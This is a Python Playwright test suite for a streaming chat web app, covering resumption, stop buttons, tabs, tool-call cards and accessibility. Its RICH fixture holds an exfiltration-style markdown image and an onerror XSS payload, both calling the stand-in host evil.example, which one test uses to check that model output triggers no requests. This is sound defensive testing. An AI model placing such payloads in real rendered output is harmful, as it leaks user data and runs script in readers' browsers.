"""The chat as a person meets it: a real server, a real browser, a scripted upstream."""

from __future__ import annotations

import contextlib
import random
import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, Route, expect

from tests.live import Live, OpenPage, accessibility_violations
from tests.upstream import STALL, Received, Reply, Upstream, chunk, endless, says, status, stream

pytestmark = pytest.mark.browser

LONG = "".join(f"word{number} " for number in range(300))
RICH = """# Heading

Some *text* with `code`, a [link](https://example.com) and $x^2$.

- [x] one
- two

| a | b |
|---|---|
| 1 | 2 |

```python
def f(x):
    return "a very long line that has to scroll in its own place: " + x * 100 + "and it goes on and on and on and on"
```

![picture](https://evil.example/?q=secret) <img src=https://evil.example/x onerror=alert(1)>
"""


class Answering(Upstream):
    """An upstream that keeps requests for titles apart: they come late, and would take what is scripted for the next question."""

    def forget(self) -> None:
        super().forget()
        self.titles: list[Received] = []

    def _reply(self, received: Received) -> Reply:
        if received.method == "POST" and "title" in str(received.body["messages"][-1]["content"]):
            self.requests.remove(received)
            self.titles.append(received)
            return says("No title.")
        return super()._reply(received)


@pytest.fixture(scope="module")
def routed(live: Live) -> Iterator[Answering]:
    """An upstream that the server's `default` route asks first, and alone."""
    upstream = Answering()
    add_route(live, upstream)
    yield upstream
    upstream.stop(wait=False)


@pytest.fixture
def route(routed: Answering) -> Answering:
    """The same, as if nobody had asked it yet."""
    routed.forget()
    return routed


def add_route(live: Live, *upstreams: Upstream) -> None:
    commands = [["add_backend", "--name", f"up{up.port}", "--base-url", up.base_url] for up in upstreams]
    steps = [argument for up in upstreams for argument in ("--step", f"up{up.port}/m")]
    commands += [["add_route", "--name", route, *steps] for route in ("default", f"seen-{upstreams[0].port}")]
    live.run_python(f"from django.core.management import call_command\nfor command in {commands!r}:\n    call_command(*command)")
    _wait_until_seen(live, f"seen-{upstreams[0].port}")


def _wait_until_seen(live: Live, route: str) -> None:
    """Until the server, which is another process, offers the route: it looks every few seconds."""
    with contextlib.closing(live.sign_in("owner")) as client:
        deadline = time.monotonic() + 15
        while f'value="{route}"' not in client.get("/chat/").text:
            assert time.monotonic() < deadline
            time.sleep(0.2)


def ask(page: Page, text: str) -> None:
    page.get_by_test_id("chat-input").fill(text)
    page.get_by_test_id("chat-send").click()


def answer(page: Page, state: str = "done") -> None:
    expect(page.get_by_test_id("message-assistant").last).to_have_attribute("data-status", state)


def answer_text(page: Page) -> str:
    return page.get_by_test_id("message-assistant").last.get_by_test_id("message-text").last.inner_text().strip()


def test_an_answer_streams_and_stays(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says("Hello **there**, person.", pace=0.05)
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Hi")
    expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-status", "streaming")
    answer(page)
    assert answer_text(page) == "Hello there, person."
    assert page.get_by_test_id("chat-input").input_value() == ""
    assert f"up{route.port}" in page.get_by_test_id("attempt-trail").inner_text()
    page.reload()
    assert answer_text(page) == "Hello there, person."
    expect(page.get_by_test_id("conversation-list").get_by_role("link", name="Hi").first).to_be_visible()


def test_stop_before_the_first_token_and_in_mid_text(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """FAULTS 27: the upstream is closed within a second, the partial is kept."""
    route.script(stream(STALL), endless(pace=0.02))
    page = browser_page(live)
    page.goto("/chat/")
    for number in range(2):
        ask(page, "Go")
        expect(page.get_by_test_id("message-assistant")).to_have_count(number + 1)
        if number:
            expect(page.get_by_test_id("message-text").last).to_contain_text("more more")
        else:
            page.wait_for_timeout(300)
        page.get_by_test_id("chat-stop").click()
        assert route.requests[-1].gone.wait(1.5)
        answer(page, "stopped")
    assert answer_text(page).startswith("more more")


def test_reloading_at_any_token_loses_and_doubles_nothing(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """FAULTS 24."""
    route.default = says(LONG, pace=0.01)
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Go")
    expect(page.get_by_test_id("message-text").last).to_contain_text("word3 ")
    for _ in range(6):
        page.wait_for_timeout(random.uniform(50, 400))
        page.reload()
    answer(page)
    assert answer_text(page).split() == LONG.split()


def test_a_cut_connection_resumes_by_itself(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """FAULTS 25."""
    route.default = says(LONG, pace=0.01)
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Go")
    expect(page.get_by_test_id("message-text").last).to_contain_text("word3 ")
    page.evaluate("htmx.ext.ws.getRegistry().get(document.getElementById('chat').getAttribute('hx-ws:connect')).socket.close()")
    answer(page)
    assert answer_text(page).split() == LONG.split()


def test_three_tabs_stay_in_step(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """The third comes in the middle of an answer, and stops the next one for all."""
    route.default = says(LONG, pace=0.01)
    one, two, three = browser_page(live), browser_page(live), browser_page(live)
    one.goto("/chat/")
    ask(one, "Go")
    expect(one).not_to_have_url(f"{live.url}/chat/")
    two.goto(one.url)
    expect(two.get_by_test_id("message-text").last).to_contain_text("word30 ")
    three.goto(one.url)
    for page in (one, two, three):
        answer(page)
        assert answer_text(page).split() == LONG.split()
    route.default = endless(pace=0.02)
    ask(two, "Go on")
    expect(three.get_by_test_id("message-text").last).to_contain_text("more more")
    three.get_by_test_id("chat-stop").click()
    for page in (one, two, three):
        answer(page, "stopped")
    assert len({answer_text(page) for page in (one, two, three)}) == 1


def test_a_failed_backend_is_said_in_place_and_can_be_tried_again(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.script(status(400))
    route.default = says("Now it works.")
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Hi")
    answer(page, "failed")
    page.get_by_role("button", name="Try again").click()
    answer(page)
    assert answer_text(page) == "Now it works."
    expect(page.get_by_text("2/2")).to_be_visible()
    page.get_by_role("button", name="Previous version").click()
    answer(page, "failed")


def test_nothing_a_model_writes_makes_a_request(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """FAULTS 1, 3."""
    route.default = says(RICH)
    page = browser_page(live)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto("/chat/")
    ask(page, "Show me <b>everything</b>")
    answer(page)
    page.reload()
    assert not [url for url in requests if "evil" in url]
    text = page.get_by_test_id("message-text").last
    assert text.locator("img").count() == 0
    assert "<img src" in text.inner_text()
    assert text.locator("math").count() == 1
    assert text.locator(".hl-k").count() > 0


@pytest.mark.parametrize(
    ("width", "dark"),
    [(1440, False), pytest.param(1440, True, marks=pytest.mark.slow), pytest.param(390, False, marks=pytest.mark.slow), (390, True)],
)
def test_the_chat_is_accessible(live: Live, route: Answering, browser_page: OpenPage, width: int, dark: bool) -> None:
    route.script(says(RICH, reasoning="Let me think"))
    page = browser_page(live, width=width, dark=dark)
    page.goto("/chat/")
    assert accessibility_violations(page) == []
    ask(page, "Hi")
    answer(page)
    deadline = time.monotonic() + 5
    while not route.titles:
        assert time.monotonic() < deadline, "no model was asked for a title"
        page.wait_for_timeout(50)
    route.script(status(400))
    ask(page, "Again")
    answer(page, "failed")
    page.get_by_test_id("attempt-trail").first.locator("summary").click()
    assert accessibility_violations(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_question_is_sent_even_before_the_scripts_are_there(live: Live, route: Answering, browser_page: OpenPage) -> None:
    page = browser_page(live)
    page.route("**/*.js", lambda handler: handler.abort())
    page.goto("/chat/")
    ask(page, "No scripts")
    page.wait_for_url("**/chat/*-*/")
    deadline = time.monotonic() + 10
    while page.get_by_test_id("message-assistant").get_attribute("data-status") == "streaming" and time.monotonic() < deadline:
        page.wait_for_timeout(200)
        page.reload()
    assert answer_text(page) == "Hello from upstream."
    page.complaints.clear()  # type: ignore[attr-defined]  # the aborted scripts


def test_a_websocket_extension_that_comes_late_still_connects(live: Live, browser_page: OpenPage) -> None:
    def late(handler: Route) -> None:
        time.sleep(0.4)
        handler.continue_()

    page = browser_page(live)
    page.route("**/hx-ws*.js", late)
    with page.expect_websocket(lambda socket: "/ws/chat/" in socket.url, timeout=5000):
        page.goto("/chat/")


def test_tool_calls_are_cards(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.script(says("", tool_calls=[("calculator", '{"expression": "6*7"}'), ("nothing_like_it", "{broken")]), says("It is 42."))
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Six by seven?")
    answer(page)
    cards = page.get_by_test_id("tool-call")
    expect(cards).to_have_count(2)
    assert [card.get_attribute("data-state") for card in cards.all()] == ["done", "failed"]
    cards.first.locator("summary").click()
    assert "42" in cards.first.inner_text()
    assert answer_text(page) == "It is 42."


def test_reasoning_is_folded(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says("The answer.", reasoning="First this, then <b>that</b>.")
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Think")
    answer(page)
    page.get_by_text("Thought for").click()
    assert "First this, then <b>that</b>." in page.locator(".reasoning-text").inner_text()


def test_kill_and_restart_keep_the_partial_answer(
    new_live: Callable[..., Live], make_upstream: Callable[..., Upstream], browser_page: OpenPage
) -> None:
    """FAULTS 26: marked interrupted within 10 s of the next start, not asked again by itself, and it can be continued."""
    live, upstream = new_live(), make_upstream()
    add_route(live, upstream)
    upstream.script(stream(chunk({"role": "assistant", "content": "The first half "}), 1.0, chunk({"content": "lost"}), STALL))
    upstream.default = says("and the second.")
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "Go")
    expect(page.get_by_test_id("message-text").last).to_contain_text("The first half")
    page.wait_for_timeout(600)
    live.kill()
    live.start()
    expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-status", "interrupted", timeout=20_000)
    assert "The first half" in answer_text(page)
    assert len([request for request in upstream.requests if request.method == "POST"]) == 1
    page.get_by_role("button", name="Continue", exact=True).click()
    answer(page)
    assert answer_text(page).endswith("and the second.")
    page.complaints.clear()  # type: ignore[attr-defined]  # refused connections while the server was down


def test_editing_asks_again_in_a_branch(live: Live, route: Answering, browser_page: OpenPage) -> None:
    page = browser_page(live)
    page.goto("/chat/")
    ask(page, "First wording")
    answer(page)
    page.get_by_role("button", name="Edit the message").click()
    page.get_by_label("Edit message").fill("Second wording")
    page.get_by_test_id("chat-log").get_by_role("button", name="Send").click()
    expect(page.get_by_test_id("message-user")).to_contain_text("Second wording")
    answer(page)
    expect(page.get_by_text("2/2")).to_be_visible()
    asked = [request.body["messages"][-1]["content"] for request in route.requests if request.streams]
    assert asked == ["First wording", "Second wording"]


def test_the_page_around_the_log(live: Live, route: Answering, browser_page: OpenPage) -> None:
    """Settings, search, files, meter, menu."""
    page = browser_page(live)
    page.goto("/chat/")
    expect(page.get_by_test_id("context-meter")).to_contain_text("tokens")
    page.locator("#chat-file").set_input_files({"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The zebra is striped."})
    page.locator("#chat-file").set_input_files({"name": "wrong.txt", "mimeType": "text/plain", "buffer": b"No."})
    page.get_by_role("button", name="Remove wrong.txt").click()
    expect(page.locator("#chat-chips .chip")).to_have_count(1)
    expect(page.locator("#chat-chips")).to_contain_text("notes.txt")
    ask(page, "What is in it?")
    answer(page)
    asked = next(request for request in reversed(route.requests) if request.method == "POST" and request.body.get("stream"))
    assert "The zebra is striped." in asked.body["messages"][-1]["content"]
    expect(page.locator("#chat-chips")).to_be_empty()
    page.get_by_role("button", name="Conversation settings").click()
    page.get_by_label("System prompt").fill("Be brief.")
    assert accessibility_violations(page) == []
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Saved.")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_label("Search all conversations").fill("zebra striped nothing")
    expect(page.get_by_test_id("conversation-list")).to_contain_text("No results for")
    page.get_by_label("Search all conversations").fill("what is in")
    expect(page.get_by_test_id("conversation-list").locator("mark").first).to_be_visible()
    page.get_by_role("button", name="More actions").click()
    assert accessibility_violations(page) == []
    page.get_by_label("Title").fill("Zebras")
    page.get_by_role("button", name="Rename").click()
    expect(page.locator("#chat-title")).to_have_text("Zebras")


def test_it_follows_the_end_only_while_the_reader_is_there(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says("\n\n".join(f"paragraph {number} of text" for number in range(80)), pace=0.01)
    page = browser_page(live, height=500)
    page.goto("/chat/")
    ask(page, "Go")
    expect(page.get_by_test_id("message-text").last).to_contain_text("paragraph 30 ")
    assert page.evaluate("(s => s.scrollHeight - s.scrollTop - s.clientHeight)(document.getElementById('chat-scroll'))") < 60
    page.evaluate("document.getElementById('chat-scroll').scrollTop = 0")
    answer(page)
    assert page.evaluate("document.getElementById('chat-scroll').scrollTop") == 0


def test_screen_readers_hear_finished_paragraphs_and_no_tokens(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says("First one here.\n\nSecond of them.\n\nAnd the last.", pace=0.15)
    page = browser_page(live)
    page.goto("/chat/")
    expect(page.get_by_test_id("chat-log")).to_have_attribute("aria-live", "off")
    ask(page, "Go")
    heard = page.locator("#chat-announcements > p")
    expect(heard.first).to_have_text("First one here.")
    answer(page)
    expect(heard).to_have_text(["First one here.", "Second of them.", "And the last."])


def test_a_schema_gives_a_form_a_table_and_the_text(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says('{"city": "Bern", "rivers": [{"name": "Aare", "km": 288}]}')
    page = browser_page(live)
    page.goto("/chat/")
    page.get_by_role("button", name="Conversation settings").click()
    page.get_by_label("JSON schema of the answer").fill('{"type": "object", "required": ["city"]}')
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Saved.")).to_be_visible()
    page.keyboard.press("Escape")
    ask(page, "Which city?")
    answer(page)
    shown = page.get_by_test_id("json-answer")
    expect(shown.locator("dd").first).to_have_text("Bern")
    shown.get_by_text("Table", exact=True).click()
    expect(shown.get_by_role("cell", name="Aare")).to_be_visible()
    assert accessibility_violations(page) == []


def test_two_models_answer_side_by_side_and_one_goes_on(live: Live, route: Answering, browser_page: OpenPage) -> None:
    route.default = says("An answer of some length, to be read beside another.", pace=0.02)
    page = browser_page(live)
    page.goto("/chat/")
    page.get_by_role("button", name="Compare").click()
    page.get_by_role("checkbox", name=f"up{route.port}/m").check()
    page.keyboard.press("Escape")
    ask(page, "Compare yourselves")
    picks = page.get_by_test_id("compare").get_by_test_id("pick")
    expect(picks).to_have_count(2)
    assert accessibility_violations(page) == []
    picks.last.click()
    expect(page.get_by_test_id("compare")).to_have_count(0)
    expect(page.get_by_label("Version 2 of 2")).to_be_visible()
